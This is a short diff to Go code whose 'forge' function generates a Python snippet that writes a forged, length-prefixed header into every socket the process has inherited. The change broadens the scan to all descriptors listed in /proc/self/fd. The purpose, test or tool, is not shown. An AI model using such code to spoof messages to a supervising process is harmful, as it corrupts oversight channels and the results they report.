@@ -33,7 +33,7 @@ var endings = []ending{
 // process for it.
 func forge(header string) string {
 	return "import os, socket, stat, struct, time\n" + header + `
-for fd in range(3, 64):
+for fd in map(int, os.listdir('/proc/self/fd')):
     try:
         if stat.S_ISSOCK(os.fstat(fd).st_mode): socket.socket(fileno=os.dup(fd)).send(struct.pack('>I', len(header)) + header, socket.MSG_DONTWAIT)
     except OSError: pass
